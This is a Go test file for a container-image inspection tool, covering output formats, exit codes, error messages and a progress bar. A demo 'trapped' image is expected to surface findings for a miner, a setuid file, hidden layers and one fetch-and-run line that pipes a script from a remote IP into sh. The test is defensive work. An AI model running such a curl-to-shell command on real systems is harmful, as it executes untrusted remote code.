package main

import (
	"bytes"
	"encoding/json"
	"path/filepath"
	"strings"
	"testing"

	"github.com/layerlens/layerlens/baseimage"
)

const demoLayout = "../../testdata/oci"

func inspect(t *testing.T, args ...string) (int, string, string) {
	t.Helper()
	home := t.TempDir()
	t.Setenv("HOME", home)
	t.Setenv("DOCKER_CONFIG", filepath.Join(home, ".docker"))
	var out, errb bytes.Buffer
	code := runInspect(append([]string{"--cache-dir", t.TempDir()}, args...), &out, &errb)
	return code, out.String(), errb.String()
}

func TestInspectDemoText(t *testing.T) {
	code, out, stderr := inspect(t, "--oci-layout", demoLayout, "--offline", "--platform", "linux/amd64", "layerlens.test/demo/trapped:1.0")
	if code != 1 {
		t.Fatalf("exit = %d, want 1 (error findings); stderr: %s", code, stderr)
	}
	for _, want := range []string{
		"Image      layerlens.test/demo/trapped:1.0",
		"Platform   linux/amd64 (requested)",
		"curl -fsSL http://203.0.113.7/install.sh | sh",
		"LayerMiner", "LayerHiddenByWhiteout", "LayerSetuid", "ImageOnBuild",
		"Efficiency ",
		"  ERROR\n", "  WARNING\n",
	} {
		if !strings.Contains(out, want) {
			t.Errorf("output lacks %q:\n%s", want, out)
		}
	}
	if stderr != "" {
		t.Errorf("stderr = %q, want nothing (no terminal, so no progress bar)", stderr)
	}
}

func TestInspectCleanAndFailLevel(t *testing.T) {
	args := []string{"--oci-layout", demoLayout, "--offline", "layerlens.test/demo/clean:1.0"}
	if code, _, stderr := inspect(t, args...); code != 0 {
		t.Errorf("clean image: exit %d, want 0; %s", code, stderr)
	}
	if code, _, _ := inspect(t, append([]string{"--fail-level", "info"}, args...)...); code != 1 {
		t.Errorf("clean image with --fail-level info: exit %d, want 1 (it has an info finding)", code)
	}
	if code, _, _ := inspect(t, append([]string{"--fail-level", "none"}, "--oci-layout", demoLayout, "--offline", "layerlens.test/demo/trapped:1.0")...); code != 0 {
		t.Errorf("--fail-level none: exit %d, want 0", code)
	}
}

func TestInspectJSON(t *testing.T) {
	// Flags after the image name work too.
	code, out, stderr := inspect(t, "layerlens.test/demo/trapped:1.0", "--format", "json", "--oci-layout", demoLayout, "--offline")
	if code != 1 {
		t.Fatalf("exit = %d; stderr %s", code, stderr)
	}
	var rep struct {
		Ref    string `json:"ref"`
		Digest string `json:"digest"`
		Layers []struct {
			Command string `json:"command"`
			Added   int    `json:"added"`
		} `json:"layers"`
		Findings []struct {
			Rule     string `json:"rule"`
			Severity string `json:"severity"`
			Layer    int    `json:"layer"`
			Path     string `json:"path"`
		} `json:"findings"`
		Efficiency struct {
			Score float64 `json:"score"`
		} `json:"efficiency"`
	}
	if err := json.Unmarshal([]byte(out), &rep); err != nil {
		t.Fatalf("JSON: %v\n%s", err, out)
	}
	if rep.Ref != "layerlens.test/demo/trapped:1.0" || !strings.HasPrefix(rep.Digest, "sha256:") || len(rep.Layers) != 4 || rep.Efficiency.Score <= 0 {
		t.Errorf("report = %+v", rep)
	}
	if len(rep.Findings) == 0 || rep.Findings[0].Severity != "error" {
		t.Errorf("findings = %+v, want errors first with severity names", rep.Findings)
	}
}

func TestInspectErrors(t *testing.T) {
	for _, tc := range []struct {
		args []string
		want string
	}{
		{nil, "want exactly one IMAGE"},
		{[]string{"a", "b"}, "want exactly one IMAGE"},
		{[]string{"--format", "xml", "alpine"}, "unknown --format"},
		{[]string{"--fail-level", "fatal", "alpine"}, "unknown --fail-level"},
		{[]string{"--oci-layout", "/nonexistent", "alpine"}, "not an OCI image layout"},
		{[]string{"--offline", "--oci-layout", demoLayout, "layerlens.test/demo/nope:1"}, "offline mode makes no network calls"},
		{[]string{"--offline", "--platform", "linux/s390x", "--oci-layout", demoLayout, "layerlens.test/demo/clean:1.0"}, "no image for platform linux/s390x"},
		{[]string{"--mirror", "docker.io", "alpine"}, "want REGISTRY=MIRROR"},
	} {
		code, _, stderr := inspect(t, tc.args...)
		if code != 2 || !strings.Contains(stderr, tc.want) {
			t.Errorf("inspect %v: exit %d, stderr %q; want 2 and %q", tc.args, code, stderr, tc.want)
		}
	}
}

func TestProgressBar(t *testing.T) {
	var buf bytes.Buffer
	bar := &progressBar{w: &buf}
	bar.update(baseimage.Progress{Phase: baseimage.PhaseConfig, BytesTotal: 100})
	if buf.Len() != 0 {
		t.Errorf("drew %q before any layer", buf.String())
	}
	bar.update(baseimage.Progress{Phase: baseimage.PhaseLayers, BytesDone: 100, BytesTotal: 100, LayersDone: 2, LayersTotal: 2})
	if got := buf.String(); !strings.Contains(got, "[==============================]") || !strings.Contains(got, "100 B / 100 B") || !strings.Contains(got, "layer 2/2") {
		t.Errorf("bar = %q", got)
	}
	bar.clear()
	if !strings.HasSuffix(buf.String(), "\r") {
		t.Errorf("clear did not return to the line start: %q", buf.String())
	}
	var nilBar *progressBar
	nilBar.update(baseimage.Progress{Phase: baseimage.PhaseLayers, BytesTotal: 1})
	nilBar.clear()
}
